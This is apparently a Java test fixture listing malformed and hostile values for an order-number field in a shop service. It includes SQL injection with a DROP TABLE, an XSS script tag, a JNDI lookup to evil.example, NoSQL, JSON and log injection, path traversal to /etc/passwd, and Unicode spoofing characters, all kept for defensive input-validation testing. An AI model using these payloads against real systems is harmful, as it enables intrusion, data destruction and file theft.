package shop.unwind.local.hostile;

import java.util.List;

/**
 * A value where an order's number belongs.
 *
 * @param json the value as it stands in JSON
 */
record Tricks(String name, String json) {
    /** Values that are no order's number, though some look like one. */
    static List<Tricks> all() {
        return List.of(
                new Tricks("an array", "[\"870001\"]"),
                new Tricks("an object", "{\"$ne\":null}"),
                new Tricks("true", "true"),
                new Tricks("null", "null"),
                new Tricks("an empty text", "\"\""),
                new Tricks("full-width digits", "\"８７０００１\""),
                new Tricks("Arabic-Indic digits", "\"٨٧٠٠٠١\""),
                new Tricks("superscript digits", "\"87000¹\""),
                new Tricks("a right-to-left override", "\"\u202E100078\""),
                new Tricks("an escaped right-to-left override", "\"870001\\u202E\""),
                new Tricks("a zero-width joiner", "\"870\u200D001\""),
                new Tricks("a zero-width blank", "\"870\u200B001\""),
                new Tricks("a soft hyphen", "\"870\u00AD001\""),
                new Tricks("a combining mark", "\"870001\u0301\""),
                new Tricks("a Greek homoglyph", "\"87\u039F001\""),
                new Tricks("a Cyrillic homoglyph", "\"\u0410-870001\""),
                new Tricks("a mathematical digit", "\"87000\uD835\uDFCF\""),
                new Tricks("invisible tag letters", "\"870001\uDB40\uDC31\""),
                new Tricks("half a surrogate pair", "\"870001\\uD800\""),
                new Tricks("an escaped NUL", "\"870001\\u0000\""),
                new Tricks("SQL", "\"870001' OR '1'='1\""),
                new Tricks("SQL that drops", "\"870001'; DROP TABLE cases; --\""),
                new Tricks("HTML", "\"<script>alert(870001)</script>\""),
                new Tricks("JSON", "\"870001\\\",\\\"status\\\":\\\"CLOSED\""),
                new Tricks("JSONata", "\"{% $states.input %}\""),
                new Tricks("a table's key", "\"870001#request#1\""),
                new Tricks("a log line of its own", "\"870001\\r\\n{\\\"level\\\":\\\"INFO\\\"}\""),
                new Tricks("a look-up", "\"${jndi:ldap://evil.example/a}\""),
                new Tricks("a way out of the folder", "\"../../etc/passwd\""),
                new Tricks("41 letters", "\"" + "9".repeat(41) + "\""),
                new Tricks("the stand-in of a payment", "\"payment.pi_870001\""));
    }
}
